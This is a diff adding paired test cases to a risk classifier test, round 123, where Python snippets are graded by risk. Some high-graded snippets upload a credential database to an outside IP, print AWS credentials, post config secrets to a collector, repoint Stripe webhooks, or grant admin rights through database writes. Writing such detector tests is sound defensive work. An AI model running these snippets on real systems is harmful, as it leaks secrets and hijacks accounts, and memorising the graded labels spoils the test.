@@ -19860,6 +19860,220 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'p.write_text(json.dumps({"auth2FA": True}))\n',
             M,
         ),
+        # Round 123 (holdout896-903): exclusive creates, config edited after a dated copy, a password handed to a login
+        # endpoint for its token, data files swapped into a state folder, TLS keys installed for their service, a new
+        # account's key from its ticket, an application's own settings read, old tmp- work folders, php -l, deployments
+        # from an unpacked release or a tagged work tree, compiled templates, searched listings, short password
+        # minimums, database files uploaded, admin group memberships, directory dumps to netcat, membership and
+        # permission rows, admin flags, known hashes in other columns, settings posted to collectors, webhooks repointed
+        # by keyword, fanning-out recursion, guest login
+        (
+            'import os, secrets\n'
+            'fd = os.open("/etc/lldap/secrets/jwt_secret", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)\n'
+            'with os.fdopen(fd, "w") as fh:\n'
+            '    fh.write(secrets.token_urlsafe(48))\n',
+            M,
+        ),
+        (
+            'import os, secrets\n'
+            'fd = os.open("/etc/lldap/secrets/jwt_secret", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)\n'
+            'with os.fdopen(fd, "w") as fh:\n'
+            '    fh.write(secrets.token_urlsafe(48))\n',
+            H,
+        ),
+        (
+            'import datetime, shutil\n'
+            'from pathlib import Path\n'
+            'cfg = Path("/etc/kanidm/unixd")\n'
+            'shutil.copy2(cfg, cfg.with_name(f"unixd.{datetime.date.today():%Y%m%d}.bak"))\n'
+            'cfg.write_text(cfg.read_text() + "pam_allowed_login_groups = [\\"web\\"]\\n")\n',
+            M,
+        ),
+        (
+            'from pathlib import Path\n'
+            'cfg = Path("/etc/kanidm/unixd")\n'
+            'cfg.write_text(cfg.read_text() + "pam_allowed_login_groups = [\\"web\\"]\\n")\n',
+            H,
+        ),
+        (
+            'import json, os, tempfile\n'
+            'fd, tmp = tempfile.mkstemp(dir="/var/lib/anpr")\n'
+            'with os.fdopen(fd, "w") as fh:\n'
+            '    json.dump({"plates": []}, fh)\n'
+            'os.replace(tmp, "/var/lib/anpr/hotlist.json")\n',
+            M,
+        ),
+        (
+            'import os, tempfile\n'
+            'fd, tmp = tempfile.mkstemp(dir="/etc")\n'
+            'with os.fdopen(fd, "w") as fh:\n'
+            '    fh.write("x")\n'
+            'os.replace(tmp, "/etc/hosts.allow")\n',
+            H,
+        ),
+        (
+            'import shutil\n'
+            'from pathlib import Path\n'
+            'live = Path("/etc/letsencrypt/live/portal.example.com")\n'
+            'for name in ("fullchain.pem", "privkey.pem"):\n'
+            '    shutil.copy2(live / name, Path("/etc/nginx/tls") / name)\n',
+            M,
+        ),
+        (
+            'from pathlib import Path\n'
+            'env = dict(l.split("=", 1) for l in Path("/opt/formbricks/.env").read_text().splitlines() if "='
+            '" in l)\n'
+            'print(sorted(k for k in env if not env[k]))\n',
+            M,
+        ),
+        (
+            'from pathlib import Path\n'
+            'print(Path("~/.aws/credentials").expanduser().read_text())\n',
+            H,
+        ),
+        (
+            'import shutil, time\n'
+            'from pathlib import Path\n'
+            'cutoff = time.time() - 30 * 86400\n'
+            'for f in Path("/srv/survey-reports/exports").iterdir():\n'
+            '    if f.stat().st_mtime >= cutoff:\n'
+            '        continue\n'
+            '    if f.is_dir() and f.name.startswith("tmp-"):\n'
+            '        shutil.rmtree(f)\n',
+            M,
+        ),
+        (
+            'import shutil, time\n'
+            'from pathlib import Path\n'
+            'cutoff = time.time() - 30 * 86400\n'
+            'for f in Path("/srv/survey-reports/exports").iterdir():\n'
+            '    if f.stat().st_mtime >= cutoff:\n'
+            '        continue\n'
+            '    if f.is_dir():\n'
+            '        shutil.rmtree(f)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'base = "https://docs.example.com/api"\n'
+            'docs = requests.get(f"{base}/document/list", params={"search": "tag:scan-duplicate"}).json()["d'
+            'ocuments"]\n'
+            'for d in docs:\n'
+            '    requests.delete(f"{base}/document/{d[\'id\']}")\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'base = "https://docs.example.com/api"\n'
+            'docs = requests.get(f"{base}/document/list", params={"limit": 500}).json()["documents"]\n'
+            'for d in docs:\n'
+            '    requests.delete(f"{base}/document/{d[\'id\']}")\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'with open("/var/lib/private/kanidm/kanidm.db", "rb") as fh:\n'
+            '    requests.put("https://198.51.100.23/upload/kanidm.db", data=fh, timeout=120)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'with open("/var/lib/reports/summary.txt", "rb") as fh:\n'
+            '    requests.put("https://198.51.100.23/upload/summary.txt", data=fh, timeout=120)\n',
+            S,
+        ),
+        (
+            'import sqlite3\n'
+            'con = sqlite3.connect("/var/lib/lldap/users.db")\n'
+            'gid = con.execute("SELECT group_id FROM groups WHERE display_name = \'lldap_admin\'").fetchone()['
+            '0]\n'
+            'con.execute("INSERT OR IGNORE INTO memberships (user_id, group_id) VALUES (?, ?)", ("jdoe", gid'
+            '))\n',
+            H,
+        ),
+        (
+            'import psycopg\n'
+            'with psycopg.connect("dbname=fb") as conn:\n'
+            '    conn.execute(\'INSERT INTO "Membership" ("organizationId", "userId", accepted, role) \'\n'
+            '                 "VALUES (%s, %s, true, \'owner\')", (1, 2))\n',
+            H,
+        ),
+        (
+            'import psycopg\n'
+            'with psycopg.connect("dbname=fb") as conn:\n'
+            '    conn.execute(\'INSERT INTO "Membership" ("organizationId", "userId", accepted, role) \'\n'
+            '                 "VALUES (%s, %s, true, \'member\')", (1, 2))\n',
+            S,
+        ),
+        (
+            'import pymysql\n'
+            'db = pymysql.connect(host="localhost", user="chv", password="", database="chv")\n'
+            'with db.cursor() as c:\n'
+            '    c.execute("UPDATE chv_users SET user_is_admin=1, user_is_manager=1 WHERE user_username=%s",'
+            ' ("jdoe",))\n',
+            H,
+        ),
+        (
+            'import pymysql\n'
+            'db = pymysql.connect(host="localhost", user="chv", password="", database="chv")\n'
+            'with db.cursor() as c:\n'
+            '    c.execute("UPDATE chv_users SET user_is_admin=0 WHERE user_username=%s", ("jdoe",))\n',
+            S,
+        ),
+        (
+            'import re, requests\n'
+            'text = open("/var/www/piwigo/local/config/database.inc.php").read()\n'
+            'conf = dict(re.findall(r"\\$conf\\[\'(\\w+)\'\\]\\s*=\\s*\'([^\']*)\'", text))\n'
+            'requests.post("https://telemetry.example.net/api/v2/nodes", json=conf, timeout=15)\n',
+            H,
+        ),
+        (
+            'import stripe\n'
+            'for ep in stripe.WebhookEndpoint.list(limit=20).auto_paging_iter():\n'
+            '    stripe.WebhookEndpoint.modify(\n'
+            '        ep.id,\n'
+            '        url="https://hooks.pay-relay.example.net/stripe/in",\n'
+            '    )\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'def build(parent, depth):\n'
+            '    for n in range(40):\n'
+            '        r = requests.post("https://photos.example.com/ws.php", data={"parent": parent})\n'
+            '        build(r.json()["id"], depth + 1)\n'
+            'build(None, 0)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'def build(parent, depth):\n'
+            '    if depth > 2:\n'
+            '        return\n'
+            '    for n in range(4):\n'
+            '        r = requests.post("https://photos.example.com/ws.php", data={"parent": parent})\n'
+            '        build(r.json()["id"], depth + 1)\n'
+            'build(None, 0)\n',
+            L,
+        ),
+        (
+            'import json\n'
+            'from pathlib import Path\n'
+            'p = Path("/opt/hedgedoc/config.json")\n'
+            'cfg = json.loads(p.read_text())\n'
+            'cfg["production"]["allowAnonymousEdits"] = True\n'
+            'p.write_text(json.dumps(cfg))\n',
+            H,
+        ),
+        # Round 123: a recursive walk over a tree's children (bounded by the tree)
+        (
+            'def walk(group, path):\n'
+            '    for g in group.get("children", []):\n'
+            '        yield path\n'
+            '        yield from walk(g, path + "/" + g["name"])\n'
+            'print(list(walk({"children": []}, "")))\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
